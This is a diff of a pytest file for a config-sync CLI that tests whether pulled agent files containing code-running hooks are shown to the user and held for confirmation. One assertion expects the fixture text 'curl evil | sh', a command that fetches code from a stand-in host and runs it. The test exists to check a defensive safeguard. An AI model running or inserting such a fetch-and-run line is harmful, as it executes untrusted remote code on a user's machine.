@@ -9,9 +9,7 @@ Two machines are two HOMEs running the real CLI; a is the one anyone with the ke
 from __future__ import annotations
 
 import os
-import sys
 
-import pexpect
 import pytest
 from conftest import Machine, snapshot_tree
 
@@ -40,10 +38,7 @@ def set_up(a: Machine, b: Machine, repo_dir) -> None:
     a.write("agents/plain.md", "---\nname: plain\ndescription: plain\n---\nBe plain.\n")
     a.run("init", str(repo_dir))
     a.run("push")
-    b.run("init", str(repo_dir))
-    b.run("types", "--enable", "settings-commands")
-    b.run("pull")
-    b.run("types", "--disable", "settings-commands")
+    b.join_trusting(repo_dir)
     assert (b.claude / "commands/status.md").read_text() == STATUS
 
 
@@ -64,10 +59,7 @@ def test_code_waits_for_resolve_and_words_arrive(machines, repo_dir):
     a, b = machines
     set_up(a, b, repo_dir)
     push_code(a)
-    before = snapshot_tree(b.claude)
-    assert b.json("status", expect=3)["conflicts"] == HELD
-    assert b.json("pull", "--dry-run", expect=3)["conflicts"] == HELD
-    assert snapshot_tree(b.claude) == before
+    b.says_before_pulling(HELD)
 
     pulled = b.json("pull", expect=3)
     assert pulled["conflicts"] == HELD
@@ -136,22 +128,10 @@ def test_on_a_terminal_pull_shows_the_code_and_asks(machines, repo_dir, answer):
     set_up(a, b, repo_dir)
     a.write("agents/helper.md", HOOKED_AGENT)
     a.run("push")
-    child = pexpect.spawn(
-        sys.executable,
-        ["-m", "claude_sync", "pull"],
-        env=b.environ() | {"TERM": "dumb", "COLUMNS": "200"},
-        cwd=str(b.home),
-        encoding="utf-8",
-        timeout=60,
-    )
-    child.expect("agents/helper.md from .* adds parts that run or authorise code")
-    child.expect("Apply it")
-    shown = child.before
-    child.sendline(answer)
-    child.expect(pexpect.EOF)
-    child.close()
+    shown, status = b.answer("Apply it", answer, "pull")
+    assert "agents/helper.md from " in shown and "adds parts that run or authorise code" in shown
     assert "curl evil | sh" in shown and '"hooks"' in shown
-    assert child.exitstatus == (0 if answer == "y" else 3)
+    assert status == (0 if answer == "y" else 3)
     assert (b.claude / "agents/helper.md").exists() == (answer == "y")
 
 
@@ -164,20 +144,8 @@ def test_a_first_pull_asks_once_and_a_folder_resolves_at_once(machines, repo_dir
     a.write("skills/tidy/SKILL.md", ALLOWED_SKILL)
     a.write("agents/helper.md", HOOKED_AGENT)
     a.run("push")
-    child = pexpect.spawn(
-        sys.executable,
-        ["-m", "claude_sync", "pull"],
-        env=b.environ() | {"TERM": "dumb", "COLUMNS": "200"},
-        cwd=str(b.home),
-        encoding="utf-8",
-        timeout=60,
-    )
-    child.expect("Apply all 5 of them")
-    shown = child.before
-    child.sendline("n")
-    child.expect(pexpect.EOF)
-    child.close()
-    assert child.exitstatus == 3
+    shown, status = b.answer("Apply all 5 of them", "n", "pull")
+    assert status == 3
     assert shown.count("adds parts that run or authorise code") == 5
     b.run("resolve", "skills/tidy", "--take", "remote")
     assert b.json("status", expect=3)["conflicts"] == ["agents/helper.md"]
